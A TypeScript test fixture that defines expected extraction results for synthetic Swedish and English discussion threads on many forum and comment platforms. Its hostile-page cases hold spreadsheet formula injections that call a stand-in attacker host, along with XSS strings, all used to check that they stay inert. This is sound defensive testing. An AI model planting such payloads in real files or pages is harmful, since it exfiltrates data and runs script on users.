import type { Draft } from '../../../shared/protocol/draft.ts';
import type { Case } from './expected.ts';

/**
 * Threads as forum software and consultation platforms draw them, by their own public templates, with words of
 * ours: the same three posts on every page, the second answering the first. None of them has an adapter of its own
 * (but talk pages of wikis): the generic thread must read them all.
 */

type Language = 'sv' | 'en';

const POSTS: Readonly<Record<Language, readonly (readonly [author: string, text: string])[]>> = {
  sv: [
    ['Tova Lind', 'Cykelbanan vid Strandgatan är full av glas sedan i lördags.'],
    ['Arvid Ek', 'Jag ringde och anmälde det i går.'],
    ['Mira Holm', 'Det ligger kvar.\nVem sopar egentligen här?'],
  ],
  en: [
    ['June Alder', 'Every lamp on Mill Lane has been dark for a week now.'],
    ['Omar Vale', 'I reported it to the council yesterday.'],
    ['Iris Thorn', 'Still dark tonight.\nWho looks after these lamps?'],
  ],
};
const LOCAL = ['2026-03-02T08:15', '2026-03-03T19:40', '2026-03-04T07:05'];
const OFFSET = LOCAL.map((moment) => `${moment}:00+01:00`);
const UTC = ['2026-03-02T07:15:00Z', '2026-03-03T18:40:00Z', '2026-03-04T06:05:00Z'];
const SITE = 'https://grannforum.exempel.se';
const PAGE = `${SITE}/trad/77`;

interface Thread {
  readonly page: string;
  readonly times: readonly string[];
  /** Address of the post with this number (and place on the page), as the software itself links to it. */
  readonly link: (number: number, index: number) => string;
  /** What the page as a whole is about, where it is not the first post. */
  readonly main?: Readonly<Partial<Record<Language, Partial<Draft>>>>;
  readonly languages?: readonly Language[];
  /** Posts that differ from the rule, by their place on the page. */
  readonly but?: (index: number, language: Language) => Partial<Draft>;
}

const proposal = {
  sv: {
    text: 'Bygg en cykelväg mellan Strandgatan och skolan så att barnen kan ta sig fram själva, och belys den.',
    author: 'Mira Holm',
  },
  en: {
    text: 'Build a cycle path between Mill Lane and the school so that children can get about on their own, and light it.',
    author: 'Iris Thorn',
  },
};
const on = (published: string, words: typeof proposal): NonNullable<Thread['main']> => ({
  sv: { ...words.sv, published, permalink: PAGE },
  en: { ...words.en, published, permalink: PAGE },
});

const sweeping = on('2026-03-01T09:00:00+01:00', {
  ...proposal,
  sv: {
    text: 'Sopbilarna rullar tidigast i vecka 19, säger gatuchefen.\n\nKommunen sopar cykelbanorna två gånger om året, och mellan gångerna ligger gruset kvar.\n\nI år blir det ännu senare, eftersom en av bilarna är på verkstad sedan i februari.',
    author: 'Redaktionen',
  },
});

const THREADS: readonly Thread[] = [
  { page: 'forum-phpbb', times: OFFSET, link: (n) => `${SITE}/trad/viewtopic.php?p=${n}#p${n}` },
  { page: 'forum-phpbb2', times: LOCAL, link: (n) => `${SITE}/trad/viewtopic.php?p=${n}#p${n}` },
  {
    page: 'forum-vbulletin',
    times: LOCAL,
    link: (n) => `${SITE}/trad/showthread.php?77-x&p=${n}#post${n}`,
    // "03-02-2026" is two days, and no other date on the page tells which; the words stay.
    but: (index, language) =>
      language === 'en' && index !== 1
        ? { published: '', publishedText: index === 0 ? '03-02-2026, 08:15 AM' : '03-04-2026, 07:05 AM' }
        : {},
  },
  {
    page: 'forum-vbulletin5',
    times: LOCAL.map((moment) => `${moment}:00`),
    link: (n) => `${SITE}/forum/x/77-x?p=${n}#post${n}`,
  },
  { page: 'forum-xenforo', times: OFFSET, link: (n) => `${SITE}/threads/x.77/post-${n}` },
  { page: 'forum-invision', times: UTC, link: (n) => `${SITE}/topic/77-x/#comment-${n}` },
  {
    page: 'forum-vanilla',
    times: UTC.map((moment) => moment.replace('Z', '+00:00')),
    link: (n, index) =>
      index === 0 ? `${SITE}/discussion/77/x` : `${SITE}/discussion/comment/${n}/#Comment_${n}`,
  },
  { page: 'forum-discourse', times: UTC, link: (_, index) => `${SITE}/t/x/77/${index + 1}` },
  { page: 'forum-flashback', times: LOCAL, link: (n) => `${SITE}/sp${n}`, languages: ['sv'] },
  { page: 'forum-familjeliv', times: OFFSET, link: (n) => `${PAGE}?m=${n}`, languages: ['sv'] },
  {
    page: 'comments-wordpress',
    times: OFFSET,
    link: (n) => `${PAGE}#comment-${n}`,
    main: on('2026-03-01T09:00:00+01:00', {
      sv: {
        text: 'Kommunen sopar cykelbanorna två gånger om året, och mellan gångerna ligger gruset kvar.',
        author: 'Mira Holm',
      },
      en: {
        text: 'The council sweeps the lanes twice a year, and in between the gravel stays where it is.',
        author: 'Iris Thorn',
      },
    }),
  },
  { page: 'comments-disqus', times: LOCAL, link: (n) => `${PAGE}#comment-${n}` },
  {
    page: 'qa-stackexchange',
    times: UTC,
    link: (n, index) => `${SITE}/${index === 0 ? 'q' : 'a'}/${n}`,
  },
  {
    page: 'talk-mediawiki',
    times: LOCAL,
    link: (_, index) =>
      `${PAGE}#c-${['Tova_Lind', 'Arvid_Ek', 'Mira_Holm'][index]}-2026030${index + 2}0715${index}`,
    main: {
      sv: { permalink: `${PAGE}#c-Tova_Lind-2026030207150`, platform: 'mediawiki' },
      en: { permalink: `${PAGE}#c-June_Alder-2026030207150`, platform: 'mediawiki' },
    },
    but: (index, language) =>
      language === 'en'
        ? {
            published: `${LOCAL[index]}Z`,
            permalink: `${PAGE}#c-${['June_Alder', 'Omar_Vale', 'Iris_Thorn'][index]}-2026030${index + 2}0715${index}`,
          }
        : {},
  },
  {
    page: 'decidim',
    times: OFFSET,
    link: (n) => `${PAGE}#comment_${n}`,
    main: on('2026-03-01T09:00', proposal),
  },
  {
    page: 'consul',
    times: OFFSET,
    link: (n) => `${SITE}/comments/${n}`,
    main: on('2026-03-01', proposal),
  },
  {
    page: 'fixmystreet',
    times: LOCAL,
    link: (n, index) => (index === 0 ? '' : `${PAGE}#update_${n}`),
    // The last update was left without a name.
    but: (index) => (index === 2 ? { author: '' } : {}),
  },
  { page: 'thread-rdfa', times: OFFSET, link: (n) => `${PAGE}#c${n}` },
  { page: 'thread-microformats', times: OFFSET, link: (n) => `${PAGE}/${n}` },
  { page: 'thread-jsonld', times: OFFSET, link: () => PAGE },
  // Engines that no rule was written for; the pages came after the rules, and mended them.
  {
    page: 'forum-smf',
    times: ['2026-03-02T08:15:33', '2026-03-03T19:40:10', '2026-03-04T07:05:47'],
    link: (n) => `${SITE}/index.php?topic=77.msg${n}#msg${n}`,
    languages: ['sv'],
  },
  {
    page: 'forum-mybb',
    times: LOCAL,
    link: (n) => `${SITE}/Thread-cykelbanan?pid=${n}#pid${n}`,
    languages: ['sv'],
  },
  {
    page: 'forum-fluxbb',
    times: ['2026-03-02T08:15:33', '2026-03-03T19:40:10', '2026-03-04T07:05:47'],
    link: (n) => `${SITE}/viewtopic.php?pid=${n}#p${n}`,
    languages: ['sv'],
  },
  {
    page: 'forum-nodebb',
    times: UTC.map((moment) => moment.replace('Z', '.000Z')),
    link: (n) => `${SITE}/post/${n}`,
    languages: ['sv'],
  },
  // Only a field to copy from has the very post's address.
  {
    page: 'forum-flarum',
    times: UTC.map((moment) => moment.replace('Z', '.000Z')),
    link: (_, index) => `${SITE}/d/77-x/${index + 1}`,
    languages: ['sv'],
  },
  { page: 'forum-kunena', times: LOCAL, link: (n) => `${PAGE}#${n}`, languages: ['sv'] },
  {
    page: 'comments-drupal',
    times: LOCAL,
    link: (n) => `${SITE}/comment/${n}#comment-${n}`,
    main: on('2026-03-01T09:00', {
      ...proposal,
      sv: {
        text: 'Kommunen sopar cykelbanorna två gånger om året, och mellan gångerna ligger gruset kvar.\n\nDen som vill ha sopat tidigare kan höra av sig till gatukontoret på telefon.',
        author: 'Redaktionen',
      },
    }),
    // A comment's heading is its writer's own.
    but: (index) => ({ text: `Glas och grus\n\n${POSTS.sv[index]?.[1]}` }),
    languages: ['sv'],
  },
  {
    page: 'comments-local',
    times: LOCAL,
    link: (n) => `${PAGE}#kommentar-${n}`,
    main: sweeping,
    languages: ['sv'],
  },
  // No class names at all; the answer's address is not the post's.
  { page: 'forum-table', times: LOCAL, link: (n) => `${PAGE}#${n}`, languages: ['sv'] },
  // Class names made by a machine; the name stands beside a picture of the same name.
  { page: 'thread-hashed', times: LOCAL, link: () => '', languages: ['sv'] },
  {
    page: 'guestbook',
    times: LOCAL,
    link: () => '',
    // The newest stands first.
    main: {
      sv: { text: POSTS.sv[2]?.[1] ?? '', author: 'Mira Holm', published: LOCAL[2] ?? '', permalink: PAGE },
      en: { text: POSTS.en[2]?.[1] ?? '', author: 'Iris Thorn', published: LOCAL[2] ?? '', permalink: PAGE },
    },
  },
  {
    page: 'list-archive',
    times: OFFSET,
    link: (n) => `${PAGE}#msg${n}`,
    languages: ['sv'],
  },
];

/** The words that a person would point at: the first of the post. */
const opening = (text: string): string => text.split('\n')[0]?.slice(0, 40) ?? '';

/** Federated threads of another wording: the opening post, an answer, and an answer within it. */
const LEMMY: readonly Case[] = (
  [
    ['Ställen är fulla', 'Ställen är fulla redan klockan sju.', 'Tova', '08:15', ''],
    ['Det finns plats', 'Det finns plats på andra sidan spåret.', 'Arvid', '09:30', '/comment/901'],
    ['Inte för', 'Inte för lastcyklar.', 'Mira', '10:05', '/comment/902'],
  ] as const
).map(([point, text, author, clock, path]) => ({
  page: 'lemmy-sv',
  url: `${SITE}/post/88`,
  point,
  expected: { text, author, published: `2026-03-02T${clock}`, permalink: path && `${SITE}${path}` },
}));

const FORMULA = '=HYPERLINK("https://elak.exempel/?"&A1) <script>alert(1)</script> bakom skolan.';

/** Pages that hold nothing anybody has written to others, and hostile ones: words stay words, addresses are left out. */
const NOTHING_AND_POISON: readonly Case[] = [
  { page: 'thread-none', url: PAGE, expected: { kind: 'page', text: '', author: '', published: '' } },
  { page: 'talk-mediawiki-none', url: PAGE, expected: { kind: 'page', author: '', published: '' } },
  {
    page: 'talk-mediawiki-none',
    url: PAGE,
    point: 'Skriv nya inlägg',
    expected: { kind: 'page', author: '', published: '' },
  },
  {
    page: 'talk-mediawiki-poisoned',
    url: PAGE,
    point: 'IMAGE',
    expected: {
      platform: 'mediawiki',
      text: '=IMAGE("https://elak.exempel/?"&A2)',
      author: '<img src=x onerror=alert(1)>',
      published: '',
      publishedText: '32 mars 2026 kl. 48.75 (CET)',
      permalink: '',
    },
  },
  {
    page: 'thread-poisoned',
    url: PAGE,
    expected: { text: FORMULA, author: '@SUM(A701)', published: '', permalink: PAGE },
  },
  {
    page: 'thread-poisoned',
    url: PAGE,
    point: 'bakom skolan',
    expected: { text: FORMULA, author: '@SUM(A701)', published: '', permalink: `${PAGE}#comment-701` },
  },
];

export const THREAD_CASES: readonly Case[] = LEMMY.concat(
  NOTHING_AND_POISON,
  THREADS.flatMap(({ page, times, link, main, languages, but }) =>
    (languages ?? (['sv', 'en'] as const)).flatMap((language) => {
      const posts = POSTS[language].map(
        ([author, text], index): Partial<Draft> => ({
          text,
          author,
          published: times[index] ?? '',
          permalink: link(40_101 + index, index),
          ...but?.(index, language),
        }),
      );
      const name = `${page}-${language}`;
      const [first] = posts;
      const whole = { ...first, permalink: PAGE, ...main?.[language] };
      return [
        { page: name, url: PAGE, expected: whole },
        ...posts.map((expected, index) => ({
          page: name,
          url: PAGE,
          point: opening(POSTS[language][index]?.[1] ?? ''),
          expected,
        })),
      ];
    }),
  ),
);
